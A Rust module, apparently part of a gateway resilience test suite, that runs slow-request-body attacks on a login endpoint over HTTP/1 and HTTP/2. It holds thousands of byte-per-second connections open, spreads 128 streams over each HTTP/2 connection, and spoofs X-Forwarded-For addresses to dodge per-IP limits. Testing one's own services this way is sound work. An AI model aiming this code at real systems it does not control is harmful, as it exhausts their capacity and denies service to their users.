//! Endless request bodies over HTTP/1 and HTTP/2.

use std::time::Duration;

use anyhow::Result;
use bytes::Bytes;
use h2::client::SendRequest;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::task::JoinSet;
use tokio::time::{Instant, timeout};

use super::attack::{self, Target, attacker_address};
use super::{CaseResult, Stage};

/// HTTP/1 connections, half of them at each gateway.
const SOCKETS: usize = 2000;
const CONNECTIONS: usize = 20;
/// Streams per connection: the gateway's maximum.
pub const STREAMS: usize = 128;
const ADDRESSES: usize = 100;
/// Pause between two bytes.
const PAUSE: Duration = Duration::from_secs(1);

/// Sign-ins over HTTP/1 whose body arrives byte by byte.
pub async fn http1(stage: &mut Stage) -> Result<CaseResult> {
    let sockets = stage.or_short(SOCKETS, 200);
    let attack = async move |target: Target| attack::repeat(&target, sockets, PAUSE, socket).await;
    attack::run(stage, attack).await
}

async fn socket(target: Target, number: usize) -> Result<()> {
    let mut socket = target.connect(number).await?;
    let head = format!(
        "POST /api/auth/login HTTP/1.1\r\nHost: localhost\r\nX-Requested-With: XMLHttpRequest\r\n\
         X-Forwarded-For: {}\r\nContent-Type: application/json\r\nContent-Length: 9999\r\n\r\n{{",
        attacker_address(number % ADDRESSES)
    );
    let begun = Instant::now();
    socket.write_all(head.as_bytes()).await?;
    let (mut read, mut write) = socket.split();
    let mut answer = [0; 512];
    while !target.is_over() {
        match timeout(PAUSE, read.read(&mut answer)).await {
            Ok(Ok(length)) => {
                let status = answer.get(9..12).filter(|_| length > 12);
                let status = status.map_or("closed".into(), String::from_utf8_lossy);
                let seconds = begun.elapsed().as_secs() / 5 * 5;
                target.observed(format!("{status} after {seconds} s or more"));
                return Ok(());
            }
            Ok(Err(error)) => return Err(error.into()),
            Err(_) => write.write_all(b" ").await?,
        }
    }
    target.observed("still open");
    Ok(())
}

/// An HTTP/2 connection; `window` is its flow-control window.
pub async fn connect(target: &Target, number: usize, window: u32) -> Result<SendRequest<Bytes>> {
    let socket = target.connect(number).await?;
    let mut builder = h2::client::Builder::new();
    builder.initial_window_size(window);
    let (client, connection) = builder.handshake(socket).await?;
    tokio::spawn(async move {
        let _ = connection.await;
    });
    Ok(client)
}

/// The same over HTTP/2, with the maximum of streams per connection.
pub async fn http2(stage: &mut Stage) -> Result<CaseResult> {
    let connections = stage.or_short(CONNECTIONS, 2);
    let attack = async move |target: Target| {
        attack::repeat(&target, connections, PAUSE, streams).await;
    };
    attack::run(stage, attack).await
}

async fn streams(target: Target, number: usize) -> Result<()> {
    let client = connect(&target, number, 65_535).await?;
    let mut open = JoinSet::new();
    for stream in 0..STREAMS {
        let mut client = client.clone().ready().await?;
        let address = attacker_address((number * STREAMS + stream) % ADDRESSES);
        let request = http::Request::post(format!("{}/api/auth/login", target.origin(number)))
            .header("x-requested-with", "XMLHttpRequest")
            .header("x-forwarded-for", address)
            .header("content-type", "application/json")
            .body(())?;
        let (mut answer, mut body) = client.send_request(request, false)?;
        let target = target.clone();
        open.spawn(async move {
            while !target.is_over() {
                if body.send_data(Bytes::from_static(b" "), false).is_err() {
                    target.observed("reset");
                    return;
                }
                match timeout(PAUSE, &mut answer).await {
                    Ok(Ok(answer)) => return target.observed(answer.status().as_str()),
                    Ok(Err(_)) => return target.observed("reset"),
                    Err(_) => {}
                }
            }
            target.observed("still open");
        });
    }
    open.join_all().await;
    Ok(())
}
